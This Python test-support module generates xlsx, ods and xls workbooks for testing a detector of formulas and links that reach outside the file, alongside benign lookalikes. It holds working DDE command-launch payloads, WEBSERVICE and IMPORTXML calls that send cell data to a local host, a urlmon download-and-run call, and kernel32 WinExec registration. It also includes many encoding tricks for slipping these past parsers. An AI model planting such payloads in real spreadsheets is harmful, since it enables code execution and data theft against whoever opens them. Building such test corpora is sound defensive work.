"""Workbooks that reach out of themselves, in every spelling and place, and honest ones that only look so.

A formula is put into a place (a cell, a name, a rule) in a spelling of its XML. Each of these is a table, and
the files are what the tables make together. A place takes the parts of any workbook, so that a filled template
can be made to reach out as well as the smallest one.
"""

import re
import struct
from collections.abc import Callable, Iterator, Mapping
from xml.sax.saxutils import escape

from tests.support.hostile.raw_bytes import MAIN, OFFICE, PACKAGE, SHEET, ods, parts_of, raw_zip, xlsx_parts

Parts = Mapping[str, bytes | str]
Spelling = Callable[[str], str]
Place = Callable[[Parts, str], dict[str, bytes | str]]

BOOK = "xl/workbook.xml"
_NAME = "urn:oasis:names:tc:opendocument:xmlns"

# Formulas that start a program, or fetch a page, as soon as they are computed.
REACHING_FORMULAS = (
    "cmd|'/c calc'!A0",
    "CMD|'/C calc.exe'!'A0'",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    "'cmd|/c calc'!A0",
    "cmd |'/c calc'!A0",
    "cmd|c!A0",
    "SUM(1,MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0)",
    '"a"&cmd|\'/c calc\'!A0&"b"',
    '"a""b"&cmd|\'/c calc\'!A0&""',
    "'Звіт'!A1+cmd|'/c calc'!A0",
    "IF(A1=\"|\",cmd|'/c calc'!A0,1)",
    'DDE("cmd","/c calc","A0")',
    'dde ("soffice";"/etc/passwd";"a")',
    'DDEAUTO("cmd","/c calc")',
    'WEBSERVICE("http://127.0.0.1/?"&A1)',
    'WebService("http://127.0.0.1/")',
    'WEBSERVICE ("http://127.0.0.1/")',
    '_xlfn.WEBSERVICE("http://127.0.0.1/")',
    '_xludf.WEBSERVICE("http://127.0.0.1/")',
    'COM.MICROSOFT.WEBSERVICE("http://127.0.0.1/")',
    'of:=WEBSERVICE("http://127.0.0.1/")',
    'msoxl:=WEBSERVICE("http://127.0.0.1/")',
    '_xlfn.FILTERXML(_xlfn.WEBSERVICE("http://127.0.0.1/"),"//a")',
    "MAP(A1:A3,_xleta.WEBSERVICE)",
    'IMAGE("http://127.0.0.1/a.png")',
    '_xlfn.IMAGE("http://127.0.0.1/"&A1,"",0)',
    "_xlfn._xlws.IMAGE(A1)",
    'RTD("server.object",,"topic")',
    'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://127.0.0.1/","a.exe",0,0)',
    'REGISTER.ID("kernel32","WinExec","JCJ")',
    'REGISTER("kernel32","WinExec","JCJ","run")',
    'EXEC("calc.exe")',
    'IMPORTXML("http://127.0.0.1/?"&A1,"//a")',
    'IMPORTDATA("http://127.0.0.1/?"&A1)',
    '__xludf.DUMMYFUNCTION("IMAGE(""http://127.0.0.1/""&A1)")',
)
# Formulas that compute with what stands in the workbook, or in another one, and only look like the above.
HONEST_FORMULAS = (
    '"online|offline"',
    '"Проведено: "&"online|offline"',
    '"a""|""b"',
    '"it\'s"&"a|b"&"it\'s"',
    "\"cmd|'/c calc'!A0\"",
    "'A|B'!A1",
    "SUM('A|B'!A1:A3)",
    "Таблиця1[[#This Row],[online|offline]]",
    "Таблиця1[image(1)]",
    'HYPERLINK("http://example.org/","тут")',
    "[1]Лист!$A$1",
    "'[1]A|B'!A1",
    '"WEBSERVICE(""http://example.org/"")"',
    "WEBSERVICES(1)",
    "AVERAGE(A1:A3)+REPLACE(1,1,1,1)",
    'IF(A1="DDE(",1,0)',
    "ADDE(1)",
    "Image",
    'ВЕБСЛУЖБА("http://example.org/")',
    "SUM({1,2;3,4})",
    '__xludf.DUMMYFUNCTION("IMPORTRANGE(""1x"",""A1"")")',
)
# Texts of cells and of everything that a person reads. They are never computed.
HONEST_TEXTS = (
    "=cmd|'/c calc'!A0",
    'Формула WEBSERVICE("http://example.org/") не працює',
    "online|offline",
    "image(",
    "DDE(1)",
    "ТАК|НІ",
)


def _every(signs: str, written: Callable[[str], str]) -> Spelling:
    return lambda text: "".join(written(each) if each in signs else escape(each) for each in text)


def _split(gap: str) -> Spelling:
    """Put something that means nothing into each word and around each sign."""
    return lambda text: gap.join(escape(each) for each in text)


LETTERS = "|(!'EeIiMmCcDdRrXx"
SPELLINGS: dict[str, Spelling] = {
    "plain": escape,
    "decimal entities": _every(LETTERS, lambda sign: f"&#{ord(sign)};"),
    "hexadecimal entities": _every(LETTERS, lambda sign: f"&#x{ord(sign):x};"),
    "capital hexadecimal entities": _every(LETTERS, lambda sign: f"&#x{ord(sign):X};"),
    "entities with zeros": _every(LETTERS, lambda sign: f"&#x000{ord(sign):x};"),
    "named entities": lambda text: escape(text, {"'": "&apos;", '"': "&quot;"}),
    "CDATA": lambda text: f"<![CDATA[{text}]]>",
    "CDATA for each sign": _every(LETTERS, lambda sign: f"<![CDATA[{sign}]]>"),
    "comments between": _split("<!-- -->"),
    "instructions between": _split("<?x y?>"),
    "a line break in front": lambda text: "\n\t" + escape(text),
}


def cell(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of a cell."""
    return _before(parts, SHEET, "</sheetData>", _row(f"<f>{formula}</f>"))


def array(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of an array."""
    return _before(parts, SHEET, "</sheetData>", _row(f'<f t="array" ref="A900:A901">{formula}</f>'))


def shared(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula that several cells share, with single quotes and a greater-than sign in its tag."""
    return _before(
        parts, SHEET, "</sheetData>", _row(f"<f\nt='shared' x='>' ref='A900:A901' si='0'>{formula}</f >")
    )


def name(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """A defined name."""
    names = f'<definedNames><definedName name="a" hidden="1">{formula}</definedName></definedNames>'
    return _before(parts, BOOK, "</workbook>", names)


def validation_list(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The list of a validation."""
    rule = f'<dataValidation type="list" sqref="A900"><formula1>{formula}</formula1></dataValidation>'
    return _before(parts, SHEET, "</worksheet>", f'<dataValidations count="1">{rule}</dataValidations>')


def validation_limit(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The second limit of a validation."""
    limits = f"<formula1>1</formula1><formula2>{formula}</formula2>"
    rule = f'<dataValidation type="whole" sqref="A900">{limits}</dataValidation>'
    return _before(parts, SHEET, "</worksheet>", f'<dataValidations count="1">{rule}</dataValidations>')


def newer_validation(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """A validation as Excel has written it since 2010, among the extensions."""
    space = "http://schemas.microsoft.com/office"
    inside = f"<x14:formula1><xm:f>{formula}</xm:f></x14:formula1>"
    rule = f'<x14:dataValidation type="custom">{inside}</x14:dataValidation>'
    spaces = f'xmlns:x14="{space}/spreadsheetml/2009/9/main" xmlns:xm="{space}/excel/2006/main"'
    extension = f'<ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}" {spaces}>{rule}</ext>'
    return _before(parts, SHEET, "</worksheet>", f"<extLst>{extension}</extLst>")


def conditional_format(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of a conditional format."""
    rule = f'<cfRule type="expression" priority="1"><formula>{formula}</formula></cfRule>'
    rules = f'<conditionalFormatting sqref="A900">{rule}</conditionalFormatting>'
    return _before(parts, SHEET, "</worksheet>", rules)


def table_column(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of a column of a table."""
    column = (
        f'<tableColumn id="1" name="a"><calculatedColumnFormula>{formula}</calculatedColumnFormula></tableColumn>'
    )
    columns = f'<tableColumns count="1">{column}</tableColumns>'
    table = f'<table xmlns="{MAIN}" id="9" name="T" displayName="T" ref="A900:A901">{columns}</table>'
    return {**parts, "xl/tables/table9.xml": table}


def chart(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The source of a chart."""
    space = "http://schemas.openxmlformats.org/drawingml/2006/chart"
    series = f"<c:ser><c:val><c:numRef><c:f>{formula}</c:f></c:numRef></c:val></c:ser>"
    return {**parts, "xl/charts/chart9.xml": f'<c:chartSpace xmlns:c="{space}">{series}</c:chartSpace>'}


def prefixed_cell(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of a cell in a sheet of which every name has a prefix."""
    changed = cell(parts, formula)
    text = _text(changed[SHEET]).replace(f'xmlns="{MAIN}"', f'xmlns:x="{MAIN}"')
    return {**changed, SHEET: re.sub(r"<(/?)(?=[A-Za-z])(?!\w+:)", r"<\1x:", text)}


def cell_of_a_part_with_backslashes(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of a cell in a workbook whose parts have backslashes in their names."""
    return {part.replace("/", "\\"): content for part, content in cell(parts, formula).items()}


def cell_of_a_part_in_capitals(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of a cell in a sheet whose part has a name in capitals."""
    changed = cell(parts, formula)
    return {part.upper() if part == SHEET else part: content for part, content in changed.items()}


def cell_in_sixteen_bits(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """The formula of a cell in a sheet in UTF-16."""
    return _in_sixteen_bits(cell(parts, formula), "utf-16-le", b"\xff\xfe")


def name_in_sixteen_bits(parts: Parts, formula: str) -> dict[str, bytes | str]:
    """A defined name in a workbook in UTF-16, the higher byte first."""
    return _in_sixteen_bits(name(parts, formula), "utf-16-be", b"\xfe\xff")


PLACES: dict[str, Place] = {
    "cell": cell,
    "array": array,
    "shared": shared,
    "name": name,
    "validation list": validation_list,
    "validation limit": validation_limit,
    "newer validation": newer_validation,
    "conditional format": conditional_format,
    "table column": table_column,
    "chart": chart,
    "prefixed cell": prefixed_cell,
    "cell, backslashes": cell_of_a_part_with_backslashes,
    "cell, capitals": cell_of_a_part_in_capitals,
    "cell, UTF-16": cell_in_sixteen_bits,
    "name, UTF-16": name_in_sixteen_bits,
}

# Relationships that a program follows as soon as it opens the workbook.
LOADING_KINDS = ("oleObject", "attachedTemplate", "image", "frame", "video", "package", "control", "externalData")
# Relationships that it follows only when a person asks for it.
LINKING_KINDS = (
    "hyperlink",
    "externalLink",
    "externalLinkPath",
    "xlExternalLinkPath/xlPathMissing",
    "xlExternalLinkPath/xlStartup",
    "xlExternalLinkPath/xlAlternateStartup",
    "xlExternalLinkPath/xlLibrary",
    "externalLinkLongPath",
)
TAGS = {
    "plain": '<Relationship Id="r9" Type="{kind}" Target="http://127.0.0.1/a" TargetMode="External"/>',
    "single quotes": "<Relationship Id='r9' Type='{kind}' Target='http://127.0.0.1/a' TargetMode='External'/>",
    "an entity in the mode": (
        '<Relationship Id="r9" Type="{kind}" Target="http://127.0.0.1/a" TargetMode="Exter&#110;al"/>'
    ),
    "a hexadecimal entity": (
        '<Relationship Id="r9" Type="{kind}" Target="http://127.0.0.1/a" TargetMode="&#x45;xternal"/>'
    ),
    "small letters": '<Relationship Id="r9" Type="{kind}" Target="http://127.0.0.1/a" TargetMode="external"/>',
    "spaces": '<Relationship\n Id = "r9"\tType = "{kind}" Target = "http://127.0.0.1" TargetMode = "External" />',
    "a sign that ends no tag": (
        '<Relationship Id="r9>" Type="{kind}" Target="http://127.0.0.1/a" TargetMode="External"/>'
    ),
    "the mode first": '<Relationship TargetMode="External" Target="http://127.0.0.1/a" Type="{kind}" Id="r9"/>',
    "a prefix": (
        f'<p:Relationship xmlns:p="{PACKAGE}/relationships" Id="r9" Type="{{kind}}" '
        'Target="http://127.0.0.1/a" TargetMode="External"/>'
    ),
    "an end of its own": (
        '<Relationship Id="r9" Type="{kind}" Target="http://127.0.0.1/a" TargetMode="External"></Relationship>'
    ),
    "a kind that ends like a link": (
        '<Relationship Id="r9" Type="{kind}" Target="http://127.0.0.1/hyperlink" TargetMode="External"/>'
    ),
}


def relation(kind: str, tag: str, part: str = "xl/worksheets/_rels/sheet1.xml.rels") -> dict[str, bytes | str]:
    """The parts of a workbook with a relationship of this kind, in one of `TAGS`."""
    space = "http://schemas.microsoft.com/office/2019/04/relationships" if "LongPath" in kind else OFFICE
    if kind.startswith("xlExternalLinkPath"):
        space = "http://schemas.microsoft.com/office/2006/relationships"
    inside = TAGS[tag].format(kind=f"{space}/{kind}")
    return xlsx_parts({part: f'<Relationships xmlns="{PACKAGE}/relationships">{inside}</Relationships>'})


def reaching_parts(parts: Parts | None = None) -> Iterator[tuple[str, dict[str, bytes | str]]]:
    """Every workbook that reaches out by a formula, named by formula, spelling and place.

    Args:
        parts: The parts of the workbook that is made to reach out; without them, of the smallest one.
    """
    whole = xlsx_parts() if parts is None else parts
    for where, place in PLACES.items():
        for formula in REACHING_FORMULAS:
            yield f"{formula} | plain | {where}", place(whole, escape(formula))
        for how, spelling in SPELLINGS.items():
            for formula in (REACHING_FORMULAS[0], 'DDE("cmd","/c calc","A0")', '_xlfn.IMAGE("http://127.0.0.1/")'):
                yield f"{formula} | {how} | {where}", place(whole, spelling(formula))


def honest_parts(parts: Parts | None = None) -> Iterator[tuple[str, dict[str, bytes | str]]]:
    """Every workbook with a formula, or a text, that only looks as if it reached out."""
    whole = xlsx_parts() if parts is None else parts
    whole = _before(whole, BOOK, "</sheets>", '<sheet name="A|B" sheetId="99" r:id="rId1"/>')
    for where, place in PLACES.items():
        for formula in HONEST_FORMULAS:
            yield f"{formula} | plain | {where}", place(whole, escape(formula))
        for how, spelling in SPELLINGS.items():
            yield f"{HONEST_FORMULAS[0]} | {how} | {where}", place(whole, spelling(HONEST_FORMULAS[0]))
    for text in HONEST_TEXTS:
        for how, spelling in SPELLINGS.items():
            yield f"{text} | {how} | text", _before(whole, SHEET, "</sheetData>", _text_row(spelling(text)))
        comment = (
            f'<comments xmlns="{MAIN}"><comment ref="A1"><text><t>{escape(text)}</t></text></comment></comments>'
        )
        yield f"{text} | comment", {**whole, "xl/comments9.xml": comment}
        strings = f'<sst xmlns="{MAIN}"><si><t>{escape(text)}</t></si></sst>'
        yield f"{text} | shared string", {**whole, "xl/sharedStrings.xml": strings}
        quoted = escape(text, {'"': "&quot;"})
        limit = "<formula1>1</formula1>"
        hint = f'<dataValidation prompt="{quoted}" error="{quoted}" sqref="A9">{limit}</dataValidation>'
        yield f"{text} | hint", _before(whole, SHEET, "</worksheet>", hint)


def packed(parts: Parts) -> bytes:
    """The workbook of these parts."""
    return raw_zip(parts_of(parts))


# An ods says where its formulas are in attributes, and what it takes from outside in many of its elements.
REACHING_ODS = {
    "a program": """<table:table-cell table:formula="of:=cmd|'/c calc'!A0" {value}/>""",
    "a program by an entity": """<table:table-cell table:formula="of:=cmd&#124;'/c calc'!A0" {value}/>""",
    "a program in single quotes": "<table:table-cell table:formula='of:=cmd|&apos;/c calc&apos;!A0' {value}/>",
    "DDE": '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;a&quot;)" {value}/>',
    "DDE by an entity": '<table:table-cell table:formula="of:=DD&#x45;(&quot;cmd&quot;;&quot;a&quot;)" {value}/>',
    "DDE with spaces": '<table:table-cell table:formula = "of:= dde (&quot;cmd&quot;;&quot;a&quot;)" {value}/>',
    "a page": (
        '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;http://127.0.0.1/&quot;)" {value}/>'
    ),
    "a page, as Excel says it": (
        '<table:table-cell table:formula="msoxl:=WEBSERVICE(&quot;http://127.0.0.1/&quot;)" {value}/>'
    ),
    "a page, after a sign that ends no tag": (
        """<table:table-cell x:y=">" table:formula='of:=WEBSERVICE("http://127.0.0.1/")' {value}/>"""
    ),
    "a rule": (
        "{end}<table:content-validations><table:content-validation "
        'table:name="v" table:condition="of:cell-content-is-in-list(WEBSERVICE(&quot;http://127.0.0.1/&quot;))"/>'
        "</table:content-validations>{begin}"
    ),
    "a name": (
        "{end}<table:named-expressions><table:named-expression "
        'table:name="a" table:expression="of:=WEBSERVICE(&quot;http://127.0.0.1/&quot;)"/>'
        "</table:named-expressions>{begin}"
    ),
    "a source by DDE": (
        '{end}<table:table table:name="b">'
        '<office:dde-source office:dde-application="cmd" office:dde-topic="/c"/><table:table-row>'
    ),
    "links by DDE": (
        "{end}<table:dde-links><table:dde-link>"
        '<office:dde-source office:dde-application="cmd" office:dde-topic="c"/></table:dde-link></table:dde-links>'
        "{begin}"
    ),
    "a range from a page": (
        '<table:table-cell {value}><table:cell-range-source table:name="a" xlink:href="http://127.0.0.1/a.html" '
        'table:refresh-delay="PT1S"/></table:table-cell>'
    ),
    "a picture": (
        '<table:table-cell {value}><draw:frame><draw:image xlink:href="http://127.0.0.1/a.png" '
        'xlink:actuate="onLoad"/></draw:frame></table:table-cell>'
    ),
    "a picture by an entity": (
        '<table:table-cell {value}><draw:frame><draw:image xlink:href="&#104;ttp://127.0.0.1/a.png"/></draw:frame>'
        "</table:table-cell>"
    ),
    "an object": (
        '<table:table-cell {value}><draw:frame><draw:object xlink:href="file:///c:/a.ods"/></draw:frame>'
        "</table:table-cell>"
    ),
    "a film": (
        '<table:table-cell {value}><draw:frame><draw:plugin xlink:href="//server/a.mp4"/></draw:frame>'
        "</table:table-cell>"
    ),
    "a script": (
        '<table:table-cell {value}><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$b?language=Python&amp;location=user"/>'
        "</office:event-listeners></table:table-cell>"
    ),
}
# A sheet ends after an honest cell, and another one begins.
_END = "<table:table-cell {value}/></table:table-row></table:table>"
_BEGIN = '<table:table table:name="b"><table:table-row>'
HONEST_ODS = {
    "a bar in quotes": '<table:table-cell table:formula="of:=&quot;online|offline&quot;" {value}/>',
    "a bar between rows": '<table:table-cell table:formula="of:=SUM({{1;2|3;4}})" {value}/>',
    "a sheet with a bar": """<table:table-cell table:formula="of:=[$'A|B'.A1]" {value}/>""",
    "a text": (
        "<table:table-cell {value}><text:p>=cmd|'/c calc'!A0 WEBSERVICE(1) dde-source</text:p></table:table-cell>"
    ),
    "a link": (
        '<table:table-cell {value}><text:p><text:a xlink:href="http://example.org/">тут</text:a></text:p>'
        "</table:table-cell>"
    ),
    "a picture inside": (
        '<table:table-cell {value}><draw:frame><draw:image xlink:href="Pictures/a.png" xlink:actuate="onLoad"/>'
        "</draw:frame></table:table-cell>"
    ),
    "an object inside": (
        '<table:table-cell {value}><draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
        "</table:table-cell>"
    ),
    "another workbook": """<table:table-cell table:formula="of:=['file:///c:/a.ods'#$Sheet1.A1]" {value}/>""",
    "a copy of another workbook": (
        "{end}<table:table "
        """table:name="'file:///c:/a.ods'#Sheet1"><table:table-source xlink:type="simple" xlink:href="a.ods" """
        'table:table-name="Sheet1" table:mode="copy-results-only"/><table:table-row>'
    ),
}


def _biff(*records: tuple[int, bytes]) -> bytes:
    """The records of an xls of Excel 97, without a container."""
    first = (0x809, struct.pack("<HHHHLL", 0x600, 5, 0, 0, 0, 6))
    return b"".join(struct.pack("<HH", kind, len(body)) + body for kind, body in (first, *records, (0x0A, b"")))


def _path(text: str, wide: bool = False) -> bytes:
    return struct.pack("<HHB", 0, len(text), wide) + text.encode("utf-16-le" if wide else "latin-1")


def _formula(tokens: bytes) -> tuple[int, bytes]:
    return 0x06, bytes(20) + struct.pack("<H", len(tokens)) + tokens


# An xls keeps a link to a program in a record, a later function as a name, and each other function as a number.
REACHING_XLS = {
    "a program": _biff((0x1AE, _path("cmd\x03/c calc")), (0x23, bytes(6) + b"\x02\0A0")),
    "a program in sixteen bits": _biff((0x1AE, _path("cmd\x03/c calc", wide=True))),
    "an object": _biff((0x1AE, _path("Package\x03C:\\a.exe"))),
    "a program, before 1997": b"\x09\x08\x08\0\0\5\5\0" + bytes(4) + b"\x17\0\x0d\0\x0bcmd\x03/c calc\0",
    "a page": _biff((0x1AE, b"\1\0\1\x3a"), (0x23, bytes(6) + b"\x10\0_xlfn.WEBSERVICE")),
    "a page in sixteen bits": _biff((0x23, bytes(6) + b"\x10\1" + "_xlfn.WEBSERVICE".encode("utf-16-le"))),
    "a picture by a name": _biff((0x18, bytes(14) + b"\0_xlfn.IMAGE")),
    "a server": _biff(_formula(b"\x42\x03\x7b\x01")),
    "a library": _biff(_formula(b"\x17\1\0a\x22\x03\x96\0")),
    "a library by its number": _biff((0x221, bytes(14) + b"\x62\x02\x0b\x01")),
}
HONEST_XLS = {
    "nothing": _biff(),
    "another sheet": _biff((0x1AE, b"\2\0\1\4"), (0x17, b"\1\0\0\0\3\0\3\0"), _formula(b"\x1e\1\0")),
    "another workbook": _biff((0x1AE, struct.pack("<HHB", 1, 6, 0) + b"\1a.xls" + b"\1\0\0A")),
    "a later function": _biff((0x1AE, b"\1\0\1\x3a"), (0x23, bytes(6) + b"\x0d\0_xlfn.IFERROR")),
    "a text": _biff((0x204, bytes(6) + b'\x1c\0\0=_xlfn.WEBSERVICE("http://")')),
}


def ods_with(cells: str) -> bytes:
    """An ods with a row of these cells."""
    value = 'office:value-type="float" office:value="5"'
    spaces = "".join(
        f' xmlns:{each}="{_NAME}:{each}:1.0"' for each in ("office", "table", "text", "draw", "script")
    )
    spaces += ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:x="urn:x"'
    cells = cells.format(value=value, end=_END.format(value=value), begin=_BEGIN)
    rows = f"<table:table-row>{cells}</table:table-row>"
    body = f'<office:spreadsheet><table:table table:name="A|B">{rows}</table:table></office:spreadsheet>'
    content = f"<office:document-content{spaces}><office:body>{body}</office:body></office:document-content>"
    return ods("", {"content.xml": content})


def _row(formula: str) -> str:
    return f'<row r="900"><c r="A900">{formula}<v>5</v></c></row>'


def _text_row(text: str) -> str:
    return f'<row r="900"><c r="A900" t="inlineStr"><is><t>{text}</t></is></c></row>'


def _before(parts: Parts, part: str, mark: str, inserted: str) -> dict[str, bytes | str]:
    text = _text(parts[part])
    assert mark in text
    return {**parts, part: text.replace(mark, inserted + mark, 1)}


def _text(content: bytes | str) -> str:
    return content if isinstance(content, str) else content.decode()


def _in_sixteen_bits(parts: Parts, encoding: str, mark: bytes) -> dict[str, bytes | str]:
    changed = dict(parts)
    for part in (SHEET, BOOK):
        changed[part] = mark + _text(parts[part]).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode(encoding)
    return changed
